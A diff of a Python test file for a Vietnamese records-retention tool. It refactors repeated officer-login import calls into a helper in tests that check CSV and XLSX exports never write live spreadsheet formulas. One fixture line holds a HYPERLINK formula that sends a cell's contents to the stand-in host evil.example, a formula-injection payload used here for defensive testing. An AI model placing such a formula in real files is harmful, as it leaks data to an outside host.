@@ -4,6 +4,7 @@ every export (CLI and web), and a manifest in a legacy encoding refused by its n
 
 import csv
 import io
+import subprocess
 from collections.abc import Sequence
 from pathlib import Path
 
@@ -20,6 +21,7 @@ from tests.legacy_encodings import windows_1258
 from tests.web_server import add_user
 
 HEADERS = ["Điều khoản", "Tên nhóm hồ sơ tài liệu", "Thời hạn bảo quản", "Ghi chú"]
+OFFICER_PASSWORD = "mat-khau-2026-dai"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
 
 
@@ -83,27 +85,25 @@ def test_every_export_writes_a_formula_like_text_as_text(tmp_path: Path) -> None
         assert read_schedule("tricky", write_schedule(schedule, suffix), f"x{suffix}") == schedule
 
 
+def import_as_officer(home: Path, schedule: Path) -> subprocess.CompletedProcess[str]:
+    return sohoa(
+        home,
+        *("retention", "import", str(schedule), "--reason", "thử", "--user", "thu"),
+        "--password-stdin",
+        stdin=f"{OFFICER_PASSWORD}\n",
+    )
+
+
 def test_the_command_line_exports_no_live_formula(tmp_path: Path) -> None:
     home = tmp_path / "home"
-    add_user(home, "thu", "records_officer", "mat-khau-2026-dai")
+    add_user(home, "thu", "records_officer", OFFICER_PASSWORD)
     source = tmp_path / "lich.csv"
     source.write_text(
         "Điều khoản,Tên nhóm hồ sơ tài liệu,Thời hạn bảo quản,Tên loại\n"
         '1.9,\'=HYPERLINK("http://x"),10,Công văn\n',
         encoding="utf-8",
     )
-    imported = sohoa(
-        home,
-        "retention",
-        "import",
-        str(source),
-        "--reason",
-        "thử",
-        "--user",
-        "thu",
-        "--password-stdin",
-        stdin="mat-khau-2026-dai\n",
-    )
+    imported = import_as_officer(home, source)
     assert imported.returncode == 0, imported.stderr
     for suffix in ("csv", "xlsx"):
         out = tmp_path / f"out.{suffix}"
@@ -117,18 +117,7 @@ def test_the_command_line_exports_no_live_formula(tmp_path: Path) -> None:
     refused.write_text(
         "Điều khoản,Tên nhóm hồ sơ tài liệu,Thời hạn bảo quản\n1.9,=1+2,10\n", encoding="utf-8"
     )
-    answer = sohoa(
-        home,
-        "retention",
-        "import",
-        str(refused),
-        "--reason",
-        "thử",
-        "--user",
-        "thu",
-        "--password-stdin",
-        stdin="mat-khau-2026-dai\n",
-    )
+    answer = import_as_officer(home, refused)
     assert answer.returncode == 2 and "row 2, column Tên nhóm hồ sơ tài liệu" in answer.stderr
 
 
